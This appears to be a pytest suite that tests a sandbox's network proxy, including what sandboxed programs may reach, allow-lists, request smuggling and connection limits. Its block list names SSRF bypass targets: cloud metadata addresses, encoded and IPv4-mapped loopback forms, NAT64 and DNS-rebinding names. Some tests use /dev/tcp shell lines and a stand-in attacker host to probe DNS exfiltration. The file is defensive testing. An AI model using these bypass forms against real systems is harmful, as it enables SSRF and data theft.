"""What a sandbox reaches of the network: real sandboxes, and real servers on this machine's loopback behind it."""

import asyncio
import base64
import io
import json
import shutil
import zipfile
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from hashlib import sha256
from pathlib import Path

import pytest

from tests.shared.net.test_client import certified
from tests.support.ports import free_port
from tests.support.waiting import until
from tests.support.web_server import Answer, Asked, WebServer, web_server
from tests.workflow.sandbox.support import Box, Host, new_box
from workflow.sandbox.base import Narrowable, Network, SandboxRefused
from workflow.sandbox.local import LocalProvider

ADDRESS = "127.0.0.2"  # of this machine too, and not among those that programs inside take for their own
PORT, OTHER_PORT = free_port(), free_port()
SITE = f"http://{ADDRESS}:{PORT}"
NAMES = {
    "site.example.com": [[ADDRESS]],
    "half.example.com": [["93.184.215.14", "127.0.0.1"]],
    "mapped.example.com": [["::ffff:127.0.0.1"]],
    "flips.example.com": [["127.0.0.1"], ["127.0.0.1"]],
    "turns.example.com": [["100::1"], [ADDRESS]],
}


@pytest.fixture(scope="module", params=["root", "user"])
def open_host(request: pytest.FixtureRequest) -> Iterator[Host]:
    """Lets sandboxes reach every public host, and one private one at two ports."""
    private = [f"{ADDRESS}:{port}" for port in (PORT, OTHER_PORT)]
    with Host(request.param, {"TEST_NAMES": json.dumps(NAMES)}, network="open", private_hosts=private) as host:
        yield host


@pytest.fixture(scope="module")
def strict_host() -> Iterator[Host]:
    """Lets sandboxes reach one host, and gives up a silent connection after a second."""
    hosts = [ADDRESS, "*.example.com"]
    private = [f"{host}:{port}" for host in (ADDRESS, "site.example.com") for port in (PORT, OTHER_PORT)]
    with Host(
        "user",
        {"TEST_NAMES": json.dumps(NAMES)},
        network="allow",
        allowed_hosts=hosts,
        private_hosts=private,
        proxy_connections=3,
        proxy_idle_seconds=1,
    ) as host:
        yield host


@asynccontextmanager
async def box_of(host: Host) -> AsyncIterator[Box]:
    provider = LocalProvider(host.settings)
    try:
        yield await new_box(provider)
    finally:
        await provider.close()


@pytest.fixture
async def box(open_host: Host) -> AsyncIterator[Box]:
    async with box_of(open_host) as box:
        yield box


@pytest.fixture
async def strict(strict_host: Host) -> AsyncIterator[Box]:
    async with box_of(strict_host) as box:
        yield box


def respond(asked: Asked) -> Answer:
    return Answer(body=f"{asked.method} {asked.target} {sha256(asked.body).hexdigest()}\n".encode())


@pytest.fixture
async def site() -> AsyncIterator[WebServer]:
    async with web_server(respond, host=ADDRESS, port=PORT) as server:
        yield server


def asks(*heads: str) -> str:
    """A command that sends requests to the proxy, and prints what it answers until it hangs up."""
    sent = "".join(f"{head}\r\n\r\n" for head in heads).replace("\r\n", "\\r\\n")
    return f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{sent}' >&3; cat <&3"


# --- what works


async def test_programs_find_the_proxy_by_their_environment(box: Box, site: WebServer) -> None:
    assert await box.text(f"curl -sS {SITE}/a?b=c") == f"GET /a?b=c {sha256().hexdigest()}\n"
    code = f"import urllib.request as u; print(u.urlopen('{SITE}/d').read().decode(), end='')"
    assert (await box.text(f'python3 -c "{code}"')).startswith("GET /d ")
    (first, _) = site.asked
    assert first.headers["host"] == f"{ADDRESS}:{PORT}"
    assert not {"proxy-connection", "proxy-authorization"} & first.headers.keys()


async def test_large_bodies_pass_both_ways_unchanged(box: Box) -> None:
    body = bytes(range(256)) * 40_000

    def echo(asked: Asked) -> Answer:
        return Answer(body=asked.body)

    async with web_server(echo, host=ADDRESS, port=PORT):
        code = "open('body', 'wb').write(bytes(range(256)) * 40_000)"
        text = await box.text(f'python3 -c "{code}"; curl -sS --data-binary @body {SITE}/ | sha256sum')
    assert text.split()[0] == sha256(body).hexdigest()


async def test_an_answer_without_a_length_ends_where_the_server_ends_it(box: Box) -> None:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.0 200 OK\r\n\r\n" + b"x" * 100_000)
        writer.close()

    server = await asyncio.start_server(serve, ADDRESS, PORT)
    async with server:
        assert (await box.text(f"curl -sS {SITE}/ | wc -c")).strip() == "100000"


async def test_an_answer_that_breaks_off_is_no_whole_one_inside(box: Box) -> None:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nhalf")
        writer.close()

    server = await asyncio.start_server(serve, ADDRESS, PORT)
    async with server:
        assert (await box.run(f"curl -sS {SITE}/")).exit_code in (18, 56)  # curl's codes for a part, for a reset


async def test_tls_is_between_the_sandbox_and_the_server(box: Box, tmp_path: Path) -> None:
    serving, _ = certified("site.example.com", tmp_path)
    async with web_server(respond, serving, host=ADDRESS, port=PORT):
        text = await box.text(f"curl -sSk https://{ADDRESS}:{PORT}/x; curl -sS https://{ADDRESS}:{PORT}/x")
    assert text.startswith("GET /x ")
    assert "certificate" in text


def wheel() -> bytes:
    buffer = io.BytesIO()
    files = {
        "tinypkg.py": "WORD = 'installed'\n",
        "tinypkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
        "tinypkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{name},sha256={base64.urlsafe_b64encode(sha256(text.encode()).digest()).rstrip(b'=').decode()},{len(text)}\n"
        for name, text in files.items()
    )
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in (files | {"tinypkg-1.0.dist-info/RECORD": record}).items():
            archive.writestr(name, text)
    return buffer.getvalue()


async def test_pip_installs_from_an_index(box: Box) -> None:
    if "No module" in await box.text("python3 -m pip --version"):
        pytest.skip("this machine's Python has no pip")
    name = "tinypkg-1.0-py3-none-any.whl"
    page = f'<a href="/{name}">{name}</a>'.encode()

    def index(asked: Asked) -> Answer:
        if asked.target == f"/{name}":
            return Answer(body=wheel())
        return Answer(body=page, headers={"Content-Type": "text/html"})

    async with web_server(index, host=ADDRESS, port=PORT):
        options = f"--index-url {SITE}/simple --trusted-host {ADDRESS} --target lib --disable-pip-version-check"
        text = await box.text(f"python3 -m pip install -q {options} tinypkg; ls lib")
    assert "tinypkg.py" in text


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_git_clones_over_http(box: Box, tmp_path: Path) -> None:
    script = (
        "git init -q work; cd work; echo hello > file; git add file; git -c user.name=x -c user.email=x@x commit -qm x;"
        "git clone -q --bare . ../bare; cd ../bare; git update-server-info"
    )
    process = await asyncio.create_subprocess_exec("bash", "-ec", script, cwd=tmp_path)
    assert await process.wait() == 0

    def serve(asked: Asked) -> Answer:
        file = tmp_path / "bare" / asked.target.partition("?")[0].removeprefix("/")
        return Answer(body=file.read_bytes()) if file.is_file() else Answer(404)

    async with web_server(serve, host=ADDRESS, port=PORT):
        assert await box.text(f"git clone -q {SITE}/ clone; cat clone/file") == "hello\n"


@pytest.mark.slow
async def test_npm_reads_from_a_registry(box: Box) -> None:
    if (await box.run("npm --version")).exit_code:
        pytest.skip("npm is not installed")
    package = {"name": "tiny", "dist-tags": {"latest": "1.2.3"}, "versions": {"1.2.3": {"version": "1.2.3"}}}

    def registry(_: Asked) -> Answer:
        return Answer(body=json.dumps(package).encode(), headers={"Content-Type": "application/json"})

    async with web_server(registry, host=ADDRESS, port=PORT):
        assert await box.text(f"npm --registry {SITE}/ view tiny version") == "1.2.3\n"


# --- what does not


FORBIDDEN = {
    "mail": "example.com:25",
    "ssh": "example.com:22",
    "metadata service": "169.254.169.254:80",
    "metadata service by its IPv6 address": "[fd00:ec2::254]:80",
    "metadata service by name": "metadata.google.internal:80",
    "loopback": "127.0.0.1:80",
    "localhost": "localhost:80",
    "localhost with a final dot": "localhost.:80",
    "a name below localhost": "x.localhost:443",
    "unspecified": "0.0.0.0:80",
    "IPv6 loopback": "[::1]:80",
    "IPv4-mapped loopback": "[::ffff:127.0.0.1]:80",
    "IPv4-mapped metadata service": "[::ffff:169.254.169.254]:80",
    "IPv4-mapped in hexadecimal": "[::ffff:a9fe:a9fe]:80",
    "NAT64": "[64:ff9b::7f00:1]:80",
    "decimal": "2130706433:80",
    "octal": "0177.0.0.1:80",
    "hexadecimal": "0x7f.1:80",
    "short": "127.1:80",
    "private": "10.0.0.1:443",
    "private 192": "192.168.0.1:443",
    "shared": "100.64.0.1:443",
    "another port of a listed private host": f"{ADDRESS}:80",
    "a name with a private address": "flips.example.com:80",
    "a name with one private address of two": "half.example.com:80",
    "a name with an IPv4-mapped private address": "mapped.example.com:443",
}


@pytest.mark.parametrize("method", ["CONNECT", "GET"])
async def test_nothing_but_the_public_internet_is_reached(box: Box, method: str) -> None:
    for what, where in FORBIDDEN.items():
        target = where if method == "CONNECT" else f"http://{where}/"
        answer = await box.text(asks(f"{method} {target} HTTP/1.1\r\nHost: x"))
        if "HTTP/1.1 400 Malformed" not in answer or method == "CONNECT":  # the address is no valid one
            assert answer.startswith("HTTP/1.1 403 Not allowed from this sandbox\r\n"), what
            assert "This sandbox may not reach" in answer, what


@pytest.mark.parametrize("port", [80, 443])
async def test_a_name_is_resolved_once_and_nothing_else_is_connected_to(
    open_host: Host, box: Box, site: WebServer, port: int
) -> None:
    """The second answer would lead to a server that is there."""
    answer = await box.text(asks(f"CONNECT turns.example.com:{port} HTTP/1.1\r\nHost: x"))
    assert answer.startswith("HTTP/1.1 403 ")
    assert site.asked == []
    before = open_host.log.read_text().count("resolved flips")
    await box.text(asks(f"CONNECT flips.example.com:{port} HTTP/1.1\r\nHost: x"))
    assert open_host.log.read_text().count("resolved flips") == before + 1


async def test_each_request_of_a_connection_is_checked(box: Box, site: WebServer) -> None:
    first = f"GET {SITE}/first HTTP/1.1\r\nHost: x"
    answer = await box.text(asks(first, f"GET http://{ADDRESS}:80/second HTTP/1.1\r\nHost: {ADDRESS}:{PORT}"))
    assert "GET /first" in answer
    assert "403 Not allowed" in answer
    assert [(asked.target, asked.headers["host"]) for asked in site.asked] == [("/first", f"{ADDRESS}:{PORT}")]


async def test_what_stands_behind_a_request_does_not_go_to_its_server(box: Box, site: WebServer) -> None:
    request = f"GET {SITE}/first HTTP/1.1\r\nHost: x\r\nContent-Length: 0"
    answer = await box.text(asks(request, "GET /second HTTP/1.1\r\nHost: other"))
    assert "400 Malformed" in answer
    assert [asked.target for asked in site.asked] == ["/first"]


@pytest.mark.parametrize(
    "request_line",
    [
        *("nonsense", "GET / HTTP/1.1", "GET https://example.com/ HTTP/1.1", "CONNECT http://example.com/ HTTP/1.1"),
        *("CONNECT user@example.com:443 HTTP/1.1", "GET ftp://example.com/ HTTP/1.1", "CONNECT example.com HTTP/1.1"),
    ],
)
async def test_what_is_no_request_to_a_proxy_is_told_so(box: Box, request_line: str) -> None:
    assert (await box.text(asks(f"{request_line}\r\nHost: x"))).startswith("HTTP/1.1 400 ")


async def test_a_head_without_end_is_not_read_for_ever(box: Box) -> None:
    command = "exec 3<>/dev/tcp/127.0.0.1/3128; head -c 300000 /dev/zero | tr '\\0' x >&3; cat <&3"
    result = await box.run(command, timeout_seconds=10)
    assert result.task_id is None


async def test_a_host_that_does_not_answer_is_told_from_one_that_may_not_be_asked(box: Box) -> None:
    answer = await box.text(asks(f"CONNECT {ADDRESS}:{OTHER_PORT} HTTP/1.1\r\nHost: x"))
    assert answer.startswith("HTTP/1.1 502 Unreachable\r\n")


async def test_past_the_proxy_there_is_no_way_out(box: Box, site: WebServer) -> None:
    text = await box.text(f"curl -sS --noproxy '*' {SITE}/; echo > /dev/tcp/1.1.1.1/443")
    assert "onnect" in text
    assert "Network is unreachable" in text
    assert site.asked == []


async def test_refusals_and_traffic_are_in_the_log(open_host: Host, box: Box, site: WebServer) -> None:
    await box.text(f"curl -sS {SITE}/; curl -sS http://10.1.2.3/; curl -sS http://10.1.2.3/; kill -9 -1")
    name = box.run_id.partition(".")[0]
    await until(lambda: f"sandbox {name} sent" in open_host.log.read_text())
    lines = [line for line in open_host.log.read_text().splitlines() if name in line]
    assert sum("may not reach 10.1.2.3" in line for line in lines) == 1
    assert any(" sent 2" in line or " sent 3" in line for line in lines)  # some 250 bytes of requests


async def test_a_sandbox_without_a_network_has_no_proxy(host: Host) -> None:
    async with box_of(host) as box:
        assert "Connection refused" in await box.text("env | grep -i proxy; echo > /dev/tcp/127.0.0.1/3128")
        assert box.sandbox.capabilities.network.policy == "none"


# --- an allow-list


async def test_hosts_on_the_list_are_reached_and_no_others(strict: Box, site: WebServer) -> None:
    reached = await strict.text(f"curl -sS {SITE}/a; curl -sS http://SITE.example.com.:{PORT}/b")
    assert [asked.target for asked in site.asked] == ["/a", "/b"], reached
    for where in ("example.com:443", "packages.example.org:443", "example.com.evil.org:443", f"127.0.0.1:{PORT}"):
        answer = await strict.text(asks(f"CONNECT {where} HTTP/1.1\r\nHost: x"))
        assert answer.startswith("HTTP/1.1 403 "), where
        assert f"reaches only these hosts: {ADDRESS}, *.example.com" in answer


async def test_a_host_that_is_not_on_the_list_is_not_even_resolved(strict_host: Host, strict: Box) -> None:
    """A name can carry data out by being resolved."""
    await strict.text("curl -sS http://secret.attacker.test/")
    assert "secret.attacker.test is not among the allowed hosts" in strict_host.log.read_text()


async def test_the_worker_knows_the_policy_from_the_host(strict: Box) -> None:
    assert strict.sandbox.capabilities.network == Network("allow", [ADDRESS, "*.example.com"], proxy=True)


# --- of a run


async def test_a_run_may_reach_less_than_the_settings_allow_and_not_more(strict: Box, site: WebServer) -> None:
    assert isinstance(strict.sandbox, Narrowable)
    assert "GET /a" in await strict.text(f"curl -sS {SITE}/a")
    strict.sandbox.keep_to(["site.example.com"])
    refused = await strict.text(f"curl -sS {SITE}/b; curl -sS http://site.example.com:{PORT}/c")
    assert "This sandbox reaches only these hosts: site.example.com," in refused
    assert [asked.target for asked in site.asked] == ["/a", "/c"]
    strict.sandbox.keep_to([])
    assert "This sandbox has no network" in await strict.text(f"curl -sS http://site.example.com:{PORT}/d")
    assert strict.sandbox.capabilities.network.policy == "none"
    with pytest.raises(SandboxRefused, match=r"may not reach evil\.test"):
        strict.sandbox.keep_to(["site.example.com", "evil.test"])


async def test_the_host_itself_holds_a_run_to_the_settings(strict: Box, site: WebServer) -> None:
    strict.sandbox._hosts = ["*"]
    with pytest.raises(SandboxRefused, match="may not reach"):
        await strict.text(f"curl -sS {SITE}/a")
    assert site.asked == []


async def test_what_one_run_gave_up_the_next_one_has_again(strict_host: Host, strict: Box, site: WebServer) -> None:
    strict.sandbox.keep_to([])
    assert "no network" in await strict.text(f"curl -sS {SITE}/a")
    provider = LocalProvider(strict_host.settings)
    thread_id = strict.run_id.partition(".")[0]
    later = Box(await provider.acquire(thread_id, strict.sandbox.ref), thread_id)
    assert "GET /b" in await later.text(f"curl -sS {SITE}/b", key="later")
    await provider.close()


async def test_a_silent_connection_is_closed(strict: Box) -> None:
    async with asyncio.timeout(30), silent_server() as open_connections:
        await strict.text(asks(f"CONNECT {ADDRESS}:{PORT} HTTP/1.1\r\nHost: x"))
        await until(lambda: not open_connections)


async def test_connections_out_of_a_sandbox_are_bounded_and_others_wait_their_turn(strict: Box) -> None:
    """Three at once, of which each is closed after a second of silence: the last two of five come after that."""
    most = 0
    async with silent_server() as open_connections:
        request = f"CONNECT {ADDRESS}:{PORT} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
        one = f"(exec 3<>/dev/tcp/127.0.0.1/3128; printf '{request}' >&3; cat <&3)"
        running = asyncio.create_task(strict.text(f"for i in 1 2 3 4 5; do {one} & done; wait"))
        while not running.done():
            most = max(most, len(open_connections))
            await asyncio.sleep(0.02)
        assert (await running).count("200 Connection established") == 5
    assert most == 3


async def test_the_end_of_a_sandbox_closes_its_connections(box: Box) -> None:
    async with silent_server() as open_connections:
        await box.run(asks(f"CONNECT {ADDRESS}:{PORT} HTTP/1.1\r\nHost: x"), background=True)
        await until(lambda: len(open_connections) == 1)
        await box.run("kill -9 -1")
        await until(lambda: not open_connections)


class silent_server:
    """Accepts, says nothing, and knows who is connected."""

    async def __aenter__(self) -> set[asyncio.StreamWriter]:
        self._open: set[asyncio.StreamWriter] = set()
        self._server = await asyncio.start_server(self._serve, ADDRESS, PORT)
        return self._open

    async def __aexit__(self, *_: object) -> None:
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._open.add(writer)
        try:
            await reader.read()
        except ConnectionError:
            pass
        finally:
            self._open.discard(writer)
            writer.close()
